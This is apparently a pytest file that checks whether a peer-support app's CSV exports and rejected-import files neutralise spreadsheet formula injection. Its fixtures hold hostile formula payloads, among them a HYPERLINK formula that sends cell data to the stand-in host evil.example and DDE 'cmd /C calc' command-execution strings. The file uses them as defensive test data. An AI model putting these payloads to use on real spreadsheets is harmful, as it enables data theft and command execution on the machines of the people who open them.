"""CSV injection: no export hands a spreadsheet a formula. Text cells that start like one (OWASP's
= + - @ tab CR, and their full-width forms) get a leading quote, every text cell is quoted, NUL
and bidi overrides are dropped, and numbers (negative ones too) stay plain numbers."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime

import httpx
import pytest

from server import exports
from server.settings import Settings
from sync import db as sync_db
from sync.models import Contact, GroupMeeting, Role
from sync.validate import FORBIDDEN_IN_TEXT
from tests import factories
from tests.integration.test_import import HEADER, token_of, upload

pytestmark = pytest.mark.timezone("UTC")

HOSTILE = {
    "full_name": '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "address": "+cmd|' /C calc'!A0",
    "phone": "@SUM(1+1)*cmd|' /C calc'!A0",
    "notes": "-2+3+cmd|' /C calc'!A0",
    "needs_visit_reason": "\t=1+1",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def parse(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def assert_no_formula(rows: list[dict[str, str]], numeric: set[str]) -> None:
    for row in rows:
        for column, value in row.items():
            if column in numeric or not value:
                continue
            assert value.lstrip(" ")[:1] not in TRIGGERS, (column, value)
            assert not FORBIDDEN_IN_TEXT.search(value), (column, value)


async def hostile_records() -> dict[str, object]:
    # Written with the ORM, as rows stored before the text rule existed would be: the export
    # must be safe whatever the database holds.
    community = await factories.community(code="=EVIL()")
    committee = await factories.committee(community, code="@RC")
    leader = await factories.user(Role.PEER_LEADER, community=community, username="-leader")
    group = await factories.group(community, leader=leader, name="+group")
    person = await factories.participant(
        committee, leader, group=group, hba1c=7.9, hba1c_baseline=8.2, **HOSTILE
    )
    await Contact.create(
        participant=person,
        peer_leader=leader,
        community=community,
        occurred_at=datetime(2026, 10, 2, 1, 0, tzinfo=UTC),
        mode="home_visit",
        duration_min=30,
        referral="urgent",
        referral_reason="\r=1+1",
        referral_to='＝HYPERLINK("http://evil.example")',
        # PostgreSQL cannot hold a NUL at all; SQLite can, from before the text rule.
        note=("a\x00b" if sync_db.dialect() == "sqlite" else "a\x01b") + "\u202ec =1+1",
        void_reason="＋1",
        glucose_mmol=3.2,
        follow_up_on=date(2026, 12, 1),
    )
    await GroupMeeting.create(
        group=group,
        community=community,
        peer_leader=leader,
        occurred_at=datetime(2026, 10, 3, 1, 0, tzinfo=UTC),
        topic="－1+1",
        place="＠SUM(A1)",
        co_leader=" =1+1",
        note="x;=1+1",
        attendee_ids=[str(person.id)],
    )
    return {"community": community, "person": person}


NUMERIC = {
    "contacts": {
        "duration_min",
        "glucose_mmol",
        "bp_systolic",
        "bp_diastolic",
        "weight_kg",
        "version",
    },
    "participants": {
        "birth_year",
        "hba1c_baseline",
        "hba1c",
        "bp_systolic",
        "bp_diastolic",
        "weight_kg",
        "version",
    },
    "meetings": {"attendees", "version"},
}


async def test_every_export_neutralises_formulas_and_keeps_numbers(
    client: httpx.AsyncClient, settings: Settings
) -> None:
    await hostile_records()
    admin = await factories.user(Role.ADMIN)
    await factories.sign_in(client, admin, settings)
    bodies = {}
    for kind in ("contacts", "participants", "meetings"):
        response = await client.get(f"/admin/exports/{kind}.csv")
        assert response.status_code == 200, response.text
        # Once, not "text/csv; charset=utf-8; charset=utf-8".
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        rows = parse(response.content)
        assert rows, kind
        assert_no_formula(rows, NUMERIC[kind])
        bodies[kind] = (response.content.decode("utf-8-sig"), rows)

    text, rows = bodies["participants"]
    person = rows[0]
    for column, value in HOSTILE.items():
        assert person[column] == "'" + value, column
    assert person["community_code"] == "'=EVIL()" and person["committee_code"] == "'@RC"
    assert person["peer_leader"] == "'-leader"
    assert float(person["hba1c"]) == 7.9
    # Every text cell is quoted (a ';' cannot start a new cell in a semicolon locale); numbers
    # are not, so a spreadsheet reads them as numbers.
    assert "\"'-2+3+cmd" in text and ",7.9," in text

    _text, rows = bodies["contacts"]
    contact = rows[0]
    assert contact["note"] == "abc =1+1"  # the control and the override dropped; no formula
    assert contact["referral_reason"] == "'\r=1+1" or contact["referral_reason"] == "'\n=1+1"
    assert contact["referral_to"].startswith("'＝") and contact["void_reason"] == "'＋1"
    assert float(contact["glucose_mmol"]) == 3.2 and int(contact["duration_min"]) == 30

    text, rows = bodies["meetings"]
    meeting = rows[0]
    assert meeting["topic"] == "'－1+1" and meeting["place"] == "'＠SUM(A1)"
    assert meeting["co_leader"] == "' =1+1" and meeting["group"] == "'+group"
    assert meeting["note"] == "x;=1+1" and '"x;=1+1"' in text


def test_negative_numbers_stay_numbers_and_negative_text_does_not() -> None:
    zone = UTC
    assert exports.cell(-0.3, zone) == -0.3
    assert exports.cell(-12, zone) == -12
    assert exports.cell("-0.3", zone) == "'-0.3"
    assert exports.cell(["=a", "b"], zone) == "'=a;b"
    assert exports.cell(True, zone) == "true"
    assert exports.cell("plain 王", zone) == "plain 王"


async def test_a_community_code_in_chinese_names_the_file_without_breaking_the_download(
    client: httpx.AsyncClient, settings: Settings
) -> None:
    community = await factories.community(code="浦东-01")
    admin = await factories.user(Role.ADMIN)
    await factories.sign_in(client, admin, settings)
    response = await client.get(f"/admin/exports/contacts.csv?community={community.id}")
    assert response.status_code == 200
    disposition = response.headers["content-disposition"]
    assert disposition.isascii() and "filename*=UTF-8''peerlog-contacts-" in disposition


async def test_the_rejected_rows_file_of_an_import_is_neutralised_too(
    client: httpx.AsyncClient, settings: Settings
) -> None:
    community = await factories.community()
    await factories.committee(community, code="RC-A")
    coordinator = await factories.user(Role.COORDINATOR, community=community)
    await factories.sign_in(client, coordinator, settings)
    text = "\n".join(
        [
            HEADER,
            "N-1,Good,RC-A,2026-05-01,,,,,,,,,,,",
            '=HYPERLINK("http://evil.example"),Name,RC-A,,,,,,,,,,,,@SUM(1)',
        ]
    )
    client.cookies.set("lang", "en")  # the line and reason headers are in the uploader's language
    page = await upload(client, text)
    assert page.status_code == 200, page.text
    token = token_of(page)
    response = await client.get(f"/admin/participants/import/{token}/rejected.csv")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    rows = parse(response.content)
    assert rows[0]["code"] == '\'=HYPERLINK("http://evil.example")'
    assert rows[0]["notes"] == "'@SUM(1)"
    assert re.match(r"^\d+$", rows[0]["line"])
